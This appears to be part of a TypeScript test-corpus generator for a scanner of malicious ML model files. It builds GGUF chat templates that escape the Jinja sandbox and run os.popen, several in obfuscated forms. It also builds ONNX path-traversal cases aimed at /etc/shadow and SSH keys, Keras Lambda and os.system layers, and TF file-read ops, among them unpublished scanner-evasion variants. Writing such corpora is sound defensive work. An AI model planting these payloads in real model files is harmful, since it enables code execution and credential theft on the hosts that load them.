      minSeverity: "high",
      rules: CALL,
      sources: [PICKLESCAN_TESTS],
      description: "A compressed .npz with one plain array and one object array whose pickle calls os.system.",
    },
  ];
}

function maliciousOtherFormats(): Mal[] {
  const templates: [string, string, string[]][] = [
    [
      "gguf-template-subclasses",
      "{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}",
      ["https://nvd.nist.gov/vuln/detail/CVE-2024-34359", "https://github.com/abetlen/llama-cpp-python/pull/1462"],
    ],
    [
      "gguf-template-globals",
      "{{ cycler.__init__.__globals__.os.popen('id').read() }}{% for m in messages %}{{ m.content }}{% endfor %}",
      ["https://nvd.nist.gov/vuln/detail/CVE-2024-34359", "https://justappsec.com/news/2026-04-sglang-gguf-ssti-rce"],
    ],
    [
      "gguf-template-attr-filter",
      "{{ ()|attr('__class__')|attr('__base__')|attr('__subclasses__')() }}",
      ["https://nvd.nist.gov/vuln/detail/CVE-2024-34359"],
    ],
    [
      "gguf-template-hex-escapes",
      "{{ lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('get')('os')|attr('popen')('id') }}",
      ["https://nvd.nist.gov/vuln/detail/CVE-2024-34359"],
    ],
    [
      "gguf-template-concatenation",
      "{% set g = '__glo' ~ 'bals__' %}{% set b = '__buil' + 'tins__' %}{{ (self|attr('__init__')|attr(g))[b]['__imp' ~ 'ort__']('os').system('id') }}",
      ["https://nvd.nist.gov/vuln/detail/CVE-2024-34359"],
    ],
    [
      "gguf-template-adjacent-literals",
      "{{ ()|attr('__cla' 'ss__')|attr('__ba' 'se__')|attr('__subcla' 'sses__')() }}",
      [
        "https://nvd.nist.gov/vuln/detail/CVE-2024-34359",
        "https://jinja.palletsprojects.com/en/stable/templates/#literals",
      ],
    ],
    [
      "gguf-template-unicode-escapes",
      "{{ lipsum|attr('\\u005f\\u005fglobals\\u005f\\u005f')|attr('get')('os')|attr('popen')('id') }}",
      [
        "https://nvd.nist.gov/vuln/detail/CVE-2024-34359",
        "https://jinja.palletsprojects.com/en/stable/templates/#literals",
      ],
    ],
    [
      "gguf-template-subscript-walk",
      "{% for m in messages %}{{ m.content }}{% endfor %}{{ joiner['__in' ~ 'it__']['__glo' ~ 'bals__']['o' ~ 's']['po' ~ 'pen']('id') }}",
      ["https://nvd.nist.gov/vuln/detail/CVE-2024-34359"],
    ],
  ];
  const tpl: Mal[] = templates.map(([id, template, sources]) => ({
    id,
    ext: "gguf",
    bytes: llamaGguf(template),
    minSeverity: "high",
    rules: ["gguf.template-sandbox-escape", "gguf.template-obfuscation"],
    sources,
    description: `A GGUF whose tokenizer.chat_template escapes the Jinja sandbox (${id.replace("gguf-template-", "")} variant).`,
  }));
  const tensorBytes = float32s([1, 2, 3, 4]);
  return [
    ...tpl,
    {
      id: "gguf-kv-count-huge",
      ext: "gguf",
      bytes: gguf([["general.architecture", { type: "string", value: "llama" }]], [], { kv: 1n << 60n }),
      minSeverity: "medium",
      rules: ["gguf.header", "gguf.metadata"],
      sources: [
        "https://github.com/ggml-org/ggml/blob/master/docs/gguf.md",
        "https://www.sentinelone.com/vulnerability-database/cve-2024-21802/",
      ],
      description:
        "A GGUF header claiming 2^60 metadata pairs: a reader that trusts the count allocates or loops without end.",
      note: "A hostile-structure case (denial of service in readers) rather than code execution.",
    },
    {
      id: "safetensors-overlapping-offsets",
      ext: "safetensors",
      bytes: safetensors(
        [
          { name: "a", dtype: "F32", shape: [4], data: tensorBytes },
          { name: "b", dtype: "F32", shape: [4], data: tensorBytes },
        ],
        undefined,
        (h) => {
          (h.b as { data_offsets: number[] }).data_offsets = [8, 24];
        },
      ),
      minSeverity: "medium",
      rules: ["safetensors.overlap", "safetensors.offsets", "safetensors.unindexed-bytes"],
      sources: ["https://github.com/huggingface/safetensors#format"],
      description:
        "Two tensors whose byte ranges overlap (and leave a gap): the format forbids both; readers disagree on them.",
    },
    {
      id: "safetensors-out-of-bounds",
      ext: "safetensors",
      bytes: safetensors([{ name: "a", dtype: "F32", shape: [1024], data: tensorBytes }], undefined, (h) => {
        (h.a as { data_offsets: number[] }).data_offsets = [0, 4096];
      }),
      minSeverity: "medium",
      rules: ["safetensors.offsets", "safetensors.size-mismatch"],
      sources: ["https://github.com/huggingface/safetensors#format"],
      description: "A tensor whose range runs past the end of the file.",
    },
    {
      id: "safetensors-header-length-huge",
      ext: "safetensors",
      bytes: concat([u64(1n << 63n), utf8('{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'), tensorBytes]),
      minSeverity: "medium",
      rules: ["safetensors.header-length"],
      sources: ["https://github.com/huggingface/safetensors#format"],
      description: "A header length of 2^63: a reader that allocates it dies.",
    },
    {
      id: "safetensors-metadata-not-string",
      ext: "safetensors",
      bytes: safetensors([{ name: "a", dtype: "F32", shape: [4], data: tensorBytes }], {
        format: "pt",
        nested: { x: 1 },
      }),
      minSeverity: "low",
      rules: ["safetensors.metadata"],
      sources: ["https://github.com/huggingface/safetensors#format"],
      description: "__metadata__ holding an object where the format allows only strings.",
    },
    {
      id: "onnx-custom-domain",
      ext: "onnx",
      bytes: onnxModel({ customDomain: "com.corpus.exec" }),
      minSeverity: "medium",
      rules: ["onnx.custom-operator-domain"],
      sources: ["https://onnxruntime.ai/docs/reference/operators/add-custom-op.html"],
      description:
        "A node in a custom operator domain: loading it needs a native custom-op library supplied alongside.",
    },
    {
      id: "onnx-external-data-traversal",
      ext: "onnx",
      bytes: onnxModel({ externalPath: "../../../../etc/passwd" }),
      minSeverity: "high",
      rules: ["onnx.external-data-path"],
      sources: ["https://nvd.nist.gov/vuln/detail/CVE-2024-27318", "https://nvd.nist.gov/vuln/detail/CVE-2022-25882"],
      description: "An initializer whose external data path climbs out of the model folder (ONNX path traversal CVEs).",
    },
    {
      id: "onnx-external-data-absolute",
      ext: "onnx",
      bytes: onnxModel({ externalPath: "/etc/shadow" }),
      minSeverity: "high",
      rules: ["onnx.external-data-path"],
      sources: ["https://nvd.nist.gov/vuln/detail/CVE-2024-27318"],
      description: "An initializer whose external data path is absolute.",
    },
    {
      id: "keras-lambda-marshal",
      ext: "keras",
      bytes: kerasZip(
        sequential([
          denseLayer("dense", 8),
          {
            module: "keras.layers",
            class_name: "Lambda",
            config: {
              name: "lambda",
              trainable: true,
              dtype: "float32",
              function: {
                class_name: "__lambda__",
                config: { code: MARSHAL_B64, defaults: null, closure: null },
              },
              output_shape: null,
              arguments: {},
            },
            registered_name: null,
          },
        ]),
      ),
      minSeverity: "critical",
      rules: ["keras.lambda"],
      sources: ["https://nvd.nist.gov/vuln/detail/CVE-2024-3660", "https://www.kb.cert.org/vuls/id/253266"],
      description: "A .keras model with a Lambda layer carrying marshalled Python bytecode (CVE-2024-3660).",
    },
    {
      id: "keras-legacy-lambda-config",
      ext: "keras",
      bytes: kerasZip({
        class_name: "Sequential",
        config: {
          name: "sequential",
          layers: [
            {
              class_name: "Lambda",
              config: {
                name: "lambda",
                function: [MARSHAL_B64, null, null],
                function_type: "lambda",
                module: "__main__",
              },
            },
          ],
        },
        keras_version: "2.12.0",
        backend: "tensorflow",
      }),
      minSeverity: "critical",
      rules: ["keras.lambda"],
      sources: [
        "https://www.kb.cert.org/vuls/id/253266",
        "https://blog.huntr.com/hunting-vulnerabilities-in-keras-model-deserialization",
      ],
      description:
        "The Keras 2 form of a Lambda layer: function as [base64 bytecode, defaults, closure] with function_type 'lambda'.",
    },
    {
      id: "keras-module-function-reference",
      ext: "keras",
      bytes: kerasZip(
        sequential([
          denseLayer("dense", 8, {
            activation: { module: "os", class_name: "function", config: "system", registered_name: "system" },
          }),
        ]),
      ),
      minSeverity: "high",
      rules: ["keras.function-reference", "keras.custom-object"],
      sources: ["https://jfrog.com/blog/keras-safe_mode-bypass-vulnerability"],
      description:
        "A layer argument that names a function from an arbitrary module (os.system) for Keras to import: the safe_mode bypass class.",
    },
    {
      id: "keras-h5-legacy-lambda",
      ext: "h5",
      bytes: h5Shaped(legacyLambdaConfig()),
      minSeverity: "critical",
      rules: ["keras.lambda"],
      sources: ["https://nvd.nist.gov/vuln/detail/CVE-2024-3660", "https://www.kb.cert.org/vuls/id/253266"],
      description:
        "A legacy Keras HDF5 model whose model_config attribute holds a Lambda layer with marshalled bytecode.",
      note: "HDF5-shaped rather than a complete HDF5 file: the corpus has no HDF5 writer.",
    },
    {
      id: "keras-h5-escaped-keys",
      ext: "h5",
      bytes: h5Shaped(legacyLambdaConfig().replaceAll('"class_name"', '"\\u0063lass_name"')),
      minSeverity: "critical",
      rules: ["keras.lambda"],
      sources: ["https://www.rfc-editor.org/rfc/rfc8259#section-7", "https://nvd.nist.gov/vuln/detail/CVE-2024-3660"],
      description:
        'The same Lambda config with every class_name key written with a JSON \\u escape: Keras\'s json.loads reads the same keys, a byte search for "class_name" finds nothing.',
      note: "Not a published bypass: built against scanners that find the config by searching its text.",
    },
    {
      id: "keras-zip-escaped-lambda",
      ext: "keras",
      bytes: zip([
        { name: "metadata.json", data: utf8(JSON.stringify({ keras_version: "3.3.3" })) },
        {
          name: "config.json",
          data: utf8(
            JSON.stringify(
              sequential([
                {
                  module: "keras.layers",
                  class_name: "Lambda",
                  config: { name: "lambda", function: { class_name: "__lambda__", config: { code: MARSHAL_B64 } } },
                  registered_name: null,
                },
              ]),
            )
              .replaceAll('"Lambda"', '"\\u004cambda"')
              .replaceAll('"__lambda__"', '"\\u005f_lambda__"'),
          ),
        },
      ]),
      minSeverity: "critical",
      rules: ["keras.lambda"],
      sources: [
        "https://www.rfc-editor.org/rfc/rfc8259#section-7",
        "https://jfrog.com/blog/keras-safe_mode-bypass-vulnerability",
      ],
      description: "A .keras Lambda layer whose class names are written with JSON \\u escapes ('\\u004cambda').",
      note: "Not a published bypass: built against scanners that match the config's text rather than its parsed JSON.",
    },
    {
      id: "tf-savedmodel-readfile",
      ext: "pb",
      bytes: savedModel([
        ["path", "Const", []],
        ["read", "ReadFile", ["path"]],
        ["out", "Identity", ["read"]],
      ]),
      minSeverity: "medium",
      rules: ["savedmodel.file-read-op"],
      sources: ["https://github.com/protectai/modelscan/blob/main/modelscan/settings.py"],
      description: "A SavedModel graph with a ReadFile op: serving it reads files from the host.",
    },
    {
      id: "tf-savedmodel-writefile",
      ext: "pb",
      bytes: savedModel([
        ["path", "Const", []],
        ["data", "Const", []],
        ["write", "WriteFile", ["path", "data"]],
      ]),
      minSeverity: "high",
      rules: ["savedmodel.file-write-op"],
      sources: ["https://github.com/protectai/modelscan/blob/main/modelscan/settings.py"],
      description: "A SavedModel graph with a WriteFile op: serving it writes files on the host.",
    },
    {
      id: "tf-savedmodel-pyfunc",
      ext: "pb",
      bytes: savedModel([
        ["x", "Placeholder", []],
        ["py", "EagerPyFunc", ["x"]],
      ]),
      minSeverity: "high",
      rules: ["savedmodel.python-op"],
      sources: ["https://www.tensorflow.org/api_docs/python/tf/py_function"],
      description: "A SavedModel graph with an EagerPyFunc op: it calls back into Python in the serving process.",
    },
    {
      id: "tf-savedmodel-function-library",
      ext: "pb",
      bytes: savedModel(
        [
          ["x", "Placeholder", []],
          ["call", "StatefulPartitionedCall", ["x"]],
        ],
        {
          name: "__inference_serve_1",
          ops: [
            ["path", "Const", []],
            ["read", "ReadFile", ["path"]],
            ["py", "PyFunc", ["read"]],
          ],
        },
      ),
      minSeverity: "high",
      rules: ["savedmodel.python-op", "savedmodel.file-read-op"],
      sources: [
        "https://github.com/tensorflow/tensorflow/blob/master/tensorflow/core/framework/function.proto",
        "https://github.com/protectai/modelscan/blob/main/modelscan/settings.py",
      ],
      description:
        "ReadFile and PyFunc hidden in the graph's function library, reached through StatefulPartitionedCall: a scan of top-level nodes only sees a call.",
      note: "Not a published bypass: the way tf.function graphs are stored, which a top-level-only scan misses.",
    },
    {
      id: "onnx-external-data-in-subgraph",
      ext: "onnx",
      bytes: onnxModel({ subgraphExternalPath: "../../../../root/.ssh/id_rsa" }),
      minSeverity: "high",
      rules: ["onnx.external-data-path"],
      sources: [
        "https://github.com/onnx/onnx/blob/main/onnx/onnx.proto",
        "https://nvd.nist.gov/vuln/detail/CVE-2024-27318",
      ],
      description:
        "A path-traversing external-data initializer inside an If node's then-branch subgraph rather than the main graph.",
      note: "A variant of the ONNX path traversal CVEs placed where a scan of top-level initializers does not look.",
    },
  ];
}

/** Every case of the corpus, benign and malicious, in a stable order. */
export function corpusCases(): CorpusCase[] {
  const malicious = [...maliciousPickles(), ...maliciousContainers(), ...maliciousOtherFormats()].map(
    ({ ext, ...c }): CorpusCase => ({
      ...c,
      verdict: "malicious",
      file: ext === "pb" ? `malicious/${c.id}/saved_model.pb` : `malicious/${c.id}.${ext}`,
    }),
  );
  const all = [...benign(), ...malicious];
  const ids = new Set<string>();
  for (const c of all) {
    if (ids.has(c.id)) throw new Error(`Two corpus cases have the id ${c.id}.`);
    ids.add(c.id);
  }
  return all;
}
